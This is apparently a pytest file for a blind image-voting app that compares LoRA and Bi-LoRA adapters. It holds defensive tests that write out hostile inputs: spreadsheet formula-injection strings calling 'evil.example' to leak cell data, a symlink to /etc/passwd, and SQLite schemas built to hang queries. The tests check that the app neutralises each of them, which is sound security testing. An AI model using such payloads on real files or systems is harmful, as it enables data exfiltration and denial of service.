"""Blind votes: sides by chance, nothing lost, and a count that is the same from both sides."""

import base64
import contextlib
import csv
import io
import math
import multiprocessing
import random
import sqlite3
import threading
from collections import Counter
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest
from PIL import Image, ImageColor

from app import parts, vote, votes
from app.catalog import Catalog
from app.votes import (
    ANY_PAIR,
    FILE,
    ImagePair,
    Side,
    Vote,
    VoterState,
    VoteStore,
    image_pairs,
    tallies,
)
from bilora_diffusion.core.errors import UserError
from eval.compare import win_rate_interval
from tests.app.folders import make_scores

COLORS = {"LoRA": "teal", "Bi-LoRA": "orange"}


def make_store(root, prompts=5):
    """The votes of a root with one score folder of a general prompt and others, two seeds each."""
    texts = [*(f"icon {number}" for number in range(prompts)), "a photo"]
    make_scores(root / "scores", tuple(COLORS), texts, seeds=(0, 1))
    return VoteStore(Catalog(root), random.Random(0))


def voter(number, session, left="LoRA", prompt="icon"):
    """A voter with a pair of its own."""
    sides = [Side(label, "aa", f"{label}.png") for label in (left, "Bi-LoRA")]
    return VoterState(session, "scores", None, 0, 1, ImagePair("scores", prompt, number, *sides))


def test_only_images_of_one_prompt_and_seed_are_paired(tmp_path):
    scores = make_scores(tmp_path, ("c", "a", "b"), ("icon 0", "icon 1", "a photo"), (0, 1))
    del scores.images["b", "icon 1", 0]
    pairs = image_pairs("scores", scores)
    assert len(pairs) == 3 * 2 * 2 - 2, "general prompts are left out, and what one alone has"
    assert {(p.left.label, p.right.label) for p in pairs} == {("a", "b"), ("a", "c"), ("b", "c")}
    for pair in pairs:
        for side in (pair.left, pair.right):
            assert side.file == scores.images[side.label, pair.prompt, pair.seed].file
            assert side.digest == f"digest {side.label}"
    chosen = image_pairs("scores", scores, ("c", "a"))
    assert [(p.left.label, p.right.label) for p in chosen] == [("a", "c")] * 4


def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path):
    store, pairs = make_store(tmp_path), []
    session = store.open("scores", ANY_PAIR, "me")
    while session.pair is not None:
        assert (session.num_voted, session.total) == (len(pairs), 10)
        pairs.append(session.pair.key)
        store.cast(session, "left")
        store.cast(session, "right")  # a second click changes nothing
        session = VoteStore(Catalog(tmp_path), random.Random(len(pairs))).open(
            "scores", ANY_PAIR, "me"
        )
    assert len(set(pairs)) == len(pairs) == 10
    assert [cast_vote.pair for cast_vote in store.votes()] == pairs
    assert {cast_vote.choice for cast_vote in store.votes()} == {"left"}
    assert vote.pair_of(session) == ""
    assert "All 10 pairs" in vote.standing(session)
    other_voter = store.open("scores", ANY_PAIR, "you")
    assert (other_voter.num_voted, other_voter.total) == (0, 10)
    assert store.cast(session, "left").pair is None


def test_sides_are_drawn_by_a_fair_coin(tmp_path, monkeypatch):
    store, n = make_store(tmp_path, prompts=1), 300
    monkeypatch.setattr(parts, "address_below", lambda catalog, path: "data:")
    states = [store.open("scores", ANY_PAIR, "me") for _ in range(n)]
    assert len({session.pair.key for session in states if session.pair}) == 2
    assert len({session.token for session in states}) == n
    # Four standard deviations of a fair coin, for how often each side comes and how often it stays.
    lefts = [session.pair is not None and session.pair.left.label == "LoRA" for session in states]
    for hits in (sum(lefts), sum(first == second for first, second in pairwise(lefts))):
        assert abs(hits - n / 2) < 4 * math.sqrt(n) / 2


def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path):
    store = make_store(tmp_path, prompts=2)
    session = store.open("scores", ANY_PAIR, "me")
    while session.pair is not None:
        for side, address in zip(
            (session.pair.left, session.pair.right), session.images, strict=True
        ):
            with Image.open(io.BytesIO(base64.b64decode(str(address).partition(",")[2]))) as page:
                channels = zip(page.split(), ImageColor.getrgb(COLORS[side.label]), strict=True)
                for channel, value in channels:
                    assert channel.getextrema() == pytest.approx((value, value), abs=9)
                assert not {*page.info} - {"loop", "background", "timestamp", "duration"}
                assert max(page.size) > 64, "enlarged"
        html = vote.pair_of(session) + vote.standing(session)
        assert not [label for label in COLORS if label in html]
        session = store.cast(session, "left")
    ((*_, wins, ties, losses),), voters = store.result("scores", ANY_PAIR)
    assert (wins + losses, ties, voters) == (4, 0, 1)


def test_a_vote_counts_the_same_from_both_sides_and_not_for_weights_trained_again(tmp_path):
    a, b = "Bi-LoRA", "LoRA"
    cast = [(b, a, b), (b, a, ""), (a, b, b), (a, b, ""), (a, b, a)]
    rows = [Vote("", "", "", 0, left, right, "", won, "", "") for left, right, won in cast]
    (tally,) = tallies(rows)
    assert tally == (a, b, 1, 2, 2)
    interval = win_rate_interval(1, 2, 2)
    rate = f"40 % ({100 * interval.low:.0f}–{100 * interval.high:.0f})"
    page = vote.table([tally], 1)
    assert all(words in page for words in ("<b>Bi-LoRA</b> over LoRA", "1, 2, 2", rate))
    store = make_store(tmp_path, prompts=1)
    session: Any = store.open("scores", ANY_PAIR, "me")
    older = replace(session.pair, left=session.pair.left._replace(digest="older"))
    store.cast(replace(session, pair=older), "left")
    assert len(store.votes()) == 1
    assert store.result("scores", ANY_PAIR) == ([], 0)


def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path):
    store = make_store(tmp_path, prompts=1)
    assert store.votes() == []
    assert not (tmp_path / FILE).exists(), "reading makes nothing"
    (tmp_path / FILE).write_text("not a database, but long enough to look at" * 30)
    before = (tmp_path / FILE).read_bytes()
    for act in (store.votes, lambda: store.open("scores", ANY_PAIR, "me")):
        with pytest.raises(UserError, match=FILE):
            act()
    assert (tmp_path / FILE).read_bytes() == before
    (tmp_path / FILE).unlink()
    (tmp_path / FILE).symlink_to("/etc/passwd")
    with pytest.raises(UserError, match="out of the root"):
        store.open("scores", ANY_PAIR, "me")


ENDLESS = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r"
COLUMNS = ", ".join(f'"{name}"' for name in Vote._fields)
FOREIGN = {
    "a view": f"CREATE VIEW votes AS {ENDLESS}",
    "a trigger": (
        f"CREATE TABLE votes ({COLUMNS}); CREATE TABLE more (n);"
        f"CREATE TRIGGER x AFTER INSERT ON votes BEGIN INSERT INTO more {ENDLESS} WHERE n < 0; END"
    ),
    "other columns": "CREATE TABLE votes (a, b)",
    "a lock": f"CREATE TABLE votes ({COLUMNS}); BEGIN EXCLUSIVE",
}
"""Files of strangers, and one that another program holds."""


def read_and_vote(store):
    store.votes()
    store.cast(voter(0, "me"), "left")


@pytest.mark.parametrize("kind", FOREIGN)
def test_no_file_of_a_stranger_keeps_a_query_going(tmp_path, monkeypatch, kind):
    monkeypatch.setattr(votes, "BUSY_SECONDS", 0.2)
    monkeypatch.setattr(votes, "QUERY_SECONDS", 1.0)
    store = make_store(tmp_path, prompts=1)
    with contextlib.closing(sqlite3.connect(tmp_path / FILE, isolation_level=None)) as foreign:
        foreign.executescript(FOREIGN[kind])
        with pytest.raises(UserError, match=FILE):
            read_and_vote(store)


def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path):
    store, prompt = make_store(tmp_path, prompts=1), 'a "ToK", icon\nof two lines'
    store.cast(voter(7, "session of one", prompt=prompt), "tie")
    beginnings = ("=", "+", "-", "@", "\t", "\n=", " =", "\uff1d")
    formulas = [f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")' for begin in beginnings]
    for number, words in enumerate(formulas):
        session = f"session of {number % 2}"
        store.cast(voter(number, session, left=words, prompt=words), "left")
    path = store.export(tmp_path / "files")
    with path.open(encoding="utf-8", newline="") as file:
        head, first, *rows = csv.reader(file)
    assert "session" not in path.read_text("utf-8"), "who knows a session can vote as its voter"
    columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,voter"
    assert ",".join(head) == columns
    assert first[1:] == ["scores", prompt, "7", "LoRA", "Bi-LoRA", "tie", "", "1"]
    for number, (words, row) in enumerate(zip(formulas, rows, strict=True)):
        inert, voter_number = f"'{words}", str(2 + number % 2)
        expected = ["scores", inert, str(number), inert, "Bi-LoRA", "left", inert, voter_number]
        assert row[1:] == expected


def cast_many(root, session, count):
    store = VoteStore(Catalog(root), random.Random())
    for number in range(count):
        store.cast(voter(number, session), ("left", "right", "tie")[number % 3])


@pytest.mark.slow
def test_threads_and_processes_lose_nothing(tmp_path):
    store, fork = make_store(tmp_path, prompts=1), multiprocessing.get_context("fork")
    jobs = [(tmp_path, f"voter {number}", 9) for number in range(6)]
    workers = [threading.Thread(target=cast_many, args=job) for job in jobs[:3]]
    workers += [fork.Process(target=cast_many, args=job) for job in jobs[3:]]
    for worker in reversed(workers):  # processes first: no thread holds a lock at their fork
        worker.start()
    for worker in workers:
        worker.join(120)
    assert Counter(v.session for v in store.votes()) == {name: 9 for _, name, _ in jobs}
